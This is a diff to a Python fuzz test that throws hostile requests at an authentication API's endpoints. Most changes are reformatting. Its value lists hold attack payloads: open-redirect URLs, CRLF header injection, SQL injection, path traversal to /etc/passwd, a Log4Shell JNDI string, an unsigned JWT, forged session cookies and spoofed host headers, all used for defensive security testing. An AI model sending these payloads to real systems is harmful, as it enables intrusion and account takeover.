@@ -22,6 +22,7 @@ from tests.security.target import (
     CASES,
     FUZZERS_ADDRESS,
     PASSWORD,
+    SECRET,
     TRUSTED,
     VICTIM,
     VICTIMS_ADDRESS,
@@ -64,7 +65,7 @@ def fields_of(check: Check | None) -> tuple[str, ...]:
 
 def endpoints() -> list[tuple[str, str, Endpoint]]:
     """Method, path and endpoint of every route of the auth API."""
-    given = {"GATEPOST_SECRET": "x" * 16 + "abcdefghijklmnop0123", "GATEPOST_BASE_URL": BASE}
+    given = {"GATEPOST_SECRET": SECRET, "GATEPOST_BASE_URL": BASE}
     given |= {"GATEPOST_PLUGINS": "bearer"}
     app = create_app(Settings.from_environment(environment("postgresql://x/x") | given))
     found = []
@@ -72,7 +73,9 @@ def endpoints() -> list[tuple[str, str, Endpoint]]:
         if isinstance(mount, Mount) and mount.path == PREFIX:
             for route in mount.routes:
                 if isinstance(route, AuthRoute) and isinstance(route.endpoint, Endpoint):
-                    found += [(method, PREFIX + route.path, route.endpoint) for method in route.methods]
+                    found += [
+                        (method, PREFIX + route.path, route.endpoint) for method in route.methods
+                    ]
     return found
 
 
@@ -91,20 +94,23 @@ def test_endpoints_and_their_fields_are_found() -> None:
 # --- values ---------------------------------------------------------------------------------------
 
 LINKS: Final = (
-    "/", "/welcome", f"{TRUSTED}/x", BASE, "//evil.test", "/.//evil.test", "/%2e//evil.test", "/\\evil.test",
-    "https://evil.test", "https:evil.test", "https://app.gatepost.test@evil.test", "javascript:alert(1)",
-    "/\t/evil.test", "\r\nX-Injected: 1", "/x\r\nSet-Cookie: a=b", "http://auth.gatepost.test.evil.test",
-    "http://auth.gatepost.test:80@evil.test/", "/x?a=b#c", "data:text/html,x", "/é", "\x00", "http://[::1", "",
+    "/", "/welcome", f"{TRUSTED}/x", BASE, "//evil.test", "/.//evil.test", "/%2e//evil.test",
+    "/\\evil.test", "https://evil.test", "https:evil.test", "https://app.gatepost.test@evil.test",
+    "javascript:alert(1)", "/\t/evil.test", "\r\nX-Injected: 1", "/x\r\nSet-Cookie: a=b",
+    "http://auth.gatepost.test.evil.test", "http://auth.gatepost.test:80@evil.test/", "/x?a=b#c",
+    "data:text/html,x", "/é", "\x00", "http://[::1", "",
 )  # fmt: skip
 ADDRESSES: Final = (
-    FUZZERS_ADDRESS, FUZZERS_ADDRESS.upper(), VICTIMS_ADDRESS, VICTIMS_ADDRESS.upper(), "new@new.test",
-    f" {VICTIMS_ADDRESS}", f"{VICTIMS_ADDRESS}\x00", "victim@victims.test\r\nBcc: a@b.test",
-    "vıctim@victims.test", "ｖictim@victims.test", "victim@victims.ｔest", "a@b", "@", "a" * 300 + "@b.test",
-    "a." * 3000 + "@b.test", "K@victims.test",
+    FUZZERS_ADDRESS, FUZZERS_ADDRESS.upper(), VICTIMS_ADDRESS, VICTIMS_ADDRESS.upper(),
+    "new@new.test", f" {VICTIMS_ADDRESS}", f"{VICTIMS_ADDRESS}\x00",
+    "victim@victims.test\r\nBcc: a@b.test", "vıctim@victims.test", "ｖictim@victims.test",
+    "victim@victims.ｔest", "a@b", "@", "a" * 300 + "@b.test", "a." * 3000 + "@b.test",
+    "K@victims.test",
 )  # fmt: skip
 TEXTS: Final = (
-    "", "x", "\x00", "a\x00b", "\ud800", "\udc00\ud800", "é", "ﷺ" * 40, "a" * 70_000, "\u202e", "' OR 1=1 --",
-    "{}", "null", "true", "-1", "../../etc/passwd", "${jndi:ldap://evil.test}", "\n{\"time\":\"now\"}\n", "%00", "%0d%0a",
+    "", "x", "\x00", "a\x00b", "\ud800", "\udc00\ud800", "é", "ﷺ" * 40, "a" * 70_000, "\u202e",
+    "' OR 1=1 --", "{}", "null", "true", "-1", "../../etc/passwd", "${jndi:ldap://evil.test}",
+    "\n{\"time\":\"now\"}\n", "%00", "%0d%0a",
 )  # fmt: skip
 text = st.sampled_from(TEXTS) | st.text(max_size=40)
 scalars = st.one_of(
@@ -117,7 +123,8 @@ values = st.recursive(
     max_leaves=8,
 )
 tokens = st.sampled_from(
-    ("a" * 24, "b" * 32, "eyJhbGciOiJub25lIn0.eyJlbWFpbCI6InZpY3RpbUB2aWN0aW1zLnRlc3QifQ.", "a.b.c", "\x00", "é")
+    ("a" * 24, "b" * 32, "eyJhbGciOiJub25lIn0.eyJlbWFpbCI6InZpY3RpbUB2aWN0aW1zLnRlc3QifQ.", "a.b.c",
+    "\x00", "é")
 ) | text  # fmt: skip
 
 
@@ -150,7 +157,9 @@ def objects(draw: st.DrawFn, names: tuple[str, ...]) -> dict[str, Any]:
             case _:
                 found[name] = draw(likely(name))
     if draw(st.integers(0, 5)) == 0:
-        other = draw(st.sampled_from(("__proto__", "id", "role", "emailVerified", "createdAt")) | text)
+        other = draw(
+            st.sampled_from(("__proto__", "id", "role", "emailVerified", "createdAt")) | text
+        )
         found[other] = draw(values)
     return found
 
@@ -161,14 +170,16 @@ def encoded(value: Any) -> bytes:
 
 
 RAW: Final = (
-    b"", b"{", b"[]", b"null", b"\xff\xfe{\x00}\x00", b"\x00", b"{}{}", b"[" * 3000, b'{"a":' * 3000, b"NaN", b"1" * 6000,
-    b"\xef\xbb\xbf{}", b'{"email":"a@b.test","email":"victim@victims.test"}', b"%", b"a=b&a=c", b"=" * 500, b"&" * 2000,
-    b'{"email":"\xed\xa0\x80"}', b'{"email":"\\ud800"}',
+    b"", b"{", b"[]", b"null", b"\xff\xfe{\x00}\x00", b"\x00", b"{}{}", b"[" * 3000,
+    b'{"a":' * 3000, b"NaN", b"1" * 6000, b"\xef\xbb\xbf{}",
+    b'{"email":"a@b.test","email":"victim@victims.test"}', b"%", b"a=b&a=c", b"=" * 500,
+    b"&" * 2000, b'{"email":"\xed\xa0\x80"}', b'{"email":"\\ud800"}',
 )  # fmt: skip
 MEDIA: Final = (
-    b"application/json", b"application/json; charset=utf-16", b"APPLICATION/JSON", b"text/plain", b"application/xml",
-    b"application/x-www-form-urlencoded", b"multipart/form-data; boundary=x", b"application/json,text/plain",
-    b"application/jsonp", b"text/plain;application/json", b"", b";", b"\xff", b"application/json;" * 50,
+    b"application/json", b"application/json; charset=utf-16", b"APPLICATION/JSON", b"text/plain",
+    b"application/xml", b"application/x-www-form-urlencoded", b"multipart/form-data; boundary=x",
+    b"application/json,text/plain", b"application/jsonp", b"text/plain;application/json", b"", b";",
+    b"\xff", b"application/json;" * 50,
 )  # fmt: skip
 
 
@@ -185,7 +196,9 @@ def bodies(draw: st.DrawFn, names: tuple[str, ...]) -> tuple[bytes | None, bytes
         case 3:
             given = draw(objects(names))
             pairs = (
-                quote(n, safe="", errors="surrogatepass") + "=" + quote(str(v), errors="surrogatepass")
+                quote(n, safe="", errors="surrogatepass")
+                + "="
+                + quote(str(v), errors="surrogatepass")
                 for n, v in given.items()
             )
             return "&".join(pairs).encode(), b"application/x-www-form-urlencoded"
@@ -204,11 +217,13 @@ OWN: Final = "§own§"
 """Stands for FUZZER's cookie, which is known when the request is sent."""
 COOKIES: Final = (
     "better-auth.session_token=x.y", "better-auth.session_token=", "better-auth.session_token", "=",
-    'better-auth.session_token="§own§"', " better-auth.session_token = §own§ ", "better-auth.session_token=§own§x",
-    "Better-Auth.Session_Token=§own§", "__Secure-better-auth.session_token=§own§", "a=b", ";", "\xa0a=\xa0b",
-    "__Host-better-auth.session_token=§own§", "\x85better-auth.session_token=x", "better-auth.session_token=%ff%fe",
-    "better-auth.session_token=%00.%00", "better-auth.session_data=x", "better-auth.session_data.0=x",
-    "better-auth.session_data.٣=x", "better-auth.dont_remember=x", "better-auth.state=x", "x=" + "y" * 5000,
+    'better-auth.session_token="§own§"', " better-auth.session_token = §own§ ",
+    "better-auth.session_token=§own§x", "Better-Auth.Session_Token=§own§",
+    "__Secure-better-auth.session_token=§own§", "a=b", ";", "\xa0a=\xa0b",
+    "__Host-better-auth.session_token=§own§", "\x85better-auth.session_token=x",
+    "better-auth.session_token=%ff%fe", "better-auth.session_token=%00.%00",
+    "better-auth.session_data=x", "better-auth.session_data.0=x", "better-auth.session_data.٣=x",
+    "better-auth.dont_remember=x", "better-auth.state=x", "x=" + "y" * 5000,
     "better-auth.dont_remember=" + quote(signed("true"), safe=""),
     "better-auth.session_token=" + quote(signed("nobody" * 6), safe=""),
     "better-auth.session_token=" + quote(signed("\x00"), safe=""),
@@ -218,24 +233,37 @@ cookies = st.lists(
     st.one_of(
         st.just(f"better-auth.session_token={OWN}"),
         st.sampled_from(COOKIES),
-        st.text(st.characters(min_codepoint=32, max_codepoint=255, exclude_characters="\x7f"), max_size=30),
+        st.text(
+            st.characters(min_codepoint=32, max_codepoint=255, exclude_characters="\x7f"),
+            max_size=30,
+        ),
     ),
     max_size=4,
 ).map("; ".join)
 field_text = st.text(
     st.characters(min_codepoint=32, max_codepoint=255, exclude_characters="\x7f"), max_size=60
 ).map(lambda value: value.encode("latin-1").strip())
-SITES: Final = (BASE, TRUSTED, "https://evil.test", "null", f"{BASE}.evil.test", "http://[::1", "", "\xff", f"{BASE}/x")
+SITES: Final = (
+    BASE,
+    TRUSTED,
+    "https://evil.test",
+    "null",
+    f"{BASE}.evil.test",
+    "http://[::1",
+    "",
+    "\xff",
+    f"{BASE}/x",
+)
 HEADERS: Final[dict[str, tuple[str, ...]]] = {
     "origin": SITES,
     "referer": SITES,
     "host": ("evil.test", "auth.gatepost.test:80", "", "[::1]:80", "a b"),
     "x-forwarded-host": ("evil.test",),
     "x-forwarded-proto": ("https", "javascript"),
-    "x-forwarded-for": ("1.2.3.4", "1.2.3.4, 5.6.7.8", "::ffff:1.2.3.4", "fe80::1%eth0", "x", "1" * 5000),
-    "forwarded": ("for=1.2.3.4;host=evil.test",),
-    "authorization": (f"Bearer {OWN}", "Bearer", "Bearer x", "Basic eDp5", "bearer  \xff", "Bearer " + "x" * 5000),
-    "user-agent": ("x" * 9000, "\xff\xfe", '"}\\n{"time":1}', "é"),
+    "x-forwarded-for": ("1.2.3.4", "1.2.3.4, 5.6.7.8", "::ffff:1.2.3.4", "fe80::1%eth0", "x",
+    "1" * 5000), "forwarded": ("for=1.2.3.4;host=evil.test",),
+    "authorization": (f"Bearer {OWN}", "Bearer", "Bearer x", "Basic eDp5", "bearer  \xff",
+    "Bearer " + "x" * 5000), "user-agent": ("x" * 9000, "\xff\xfe", '"}\\n{"time":1}', "é"),
     "accept": ("*/*", "text/html", ";;;", "a" * 2000),
     "accept-encoding": ("gzip, br", "identity;q=0"),
     "content-encoding": ("gzip", "x"),
@@ -281,7 +309,9 @@ def queries(draw: st.DrawFn, names: tuple[str, ...]) -> bytes:
         if draw(st.integers(0, 4)):
             value = draw(likely(name))
             text_value = value if isinstance(value, str) else str(value)
-            parts.append(f"{name}={quote(text_value, safe='', errors='surrogatepass')[:9000]}".encode())
+            parts.append(
+                f"{name}={quote(text_value, safe='', errors='surrogatepass')[:9000]}".encode()
+            )
         else:
             raw = draw(st.binary(max_size=20))
             parts.append(name.encode() + b"=" + quote_from_bytes(raw, safe="").encode())
@@ -294,7 +324,11 @@ def requests(draw: st.DrawFn) -> Request:
     method, path, endpoint = draw(st.sampled_from(ENDPOINTS))
     if "{" in path:
         start, _, rest = path.partition("{")
-        path = start + quote(draw(tokens), safe="", errors="surrogatepass")[:9000] + rest.partition("}")[2]
+        path = (
+            start
+            + quote(draw(tokens), safe="", errors="surrogatepass")[:9000]
+            + rest.partition("}")[2]
+        )
     given = draw(headers())
     target = path.encode() + draw(queries(fields_of(endpoint.query)))
     if method == "GET":
@@ -305,6 +339,12 @@ def requests(draw: st.DrawFn) -> Request:
     return Request(method, target, given, body, chunked=bool(body) and draw(st.booleans()))
 
 
+PIECES: Final = (
+    *("/", "//", "/./", "/../", "%2f", "%2F", "%00", "%", ";x", "%20", "%c0%af", "\\", ".json"),
+    *("%0d%0a", "%e9", "*", ":", "@", "#", "+", "%25"),
+)
+
+
 @st.composite
 def variants(draw: st.DrawFn) -> Request:
     """A request to an endpoint by another method, or another spelling of its path."""
@@ -312,9 +352,7 @@ def variants(draw: st.DrawFn) -> Request:
     path = path.replace("{token}", "x").replace("{id}", "x")
     for _ in range(draw(st.integers(1, 3))):
         cut = draw(st.integers(1, len(path)))
-        piece = draw(st.sampled_from(
-            ("/", "//", "/./", "/../", "%2f", "%2F", "%00", "%", ";x", "%20", "%c0%af", "\\", ".json", "%0d%0a", "%e9", "*", ":", "@", "#", "+", "%25")
-        ))  # fmt: skip
+        piece = draw(st.sampled_from(PIECES))
         path = draw(st.sampled_from((path[:cut] + piece + path[cut:], path.upper(), path + piece)))
     if draw(st.integers(0, 2)) == 0:
         methods = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND")
@@ -331,9 +369,7 @@ def variants(draw: st.DrawFn) -> Request:
 
 
 @pytest.fixture(scope="module")
-def target(
-    module_database_url: str, tmp_path_factory: pytest.TempPathFactory
-) -> Iterator[Target]:
+def target(module_database_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
     with attacked(module_database_url, tmp_path_factory.mktemp("attacked")) as target:
         yield target
 
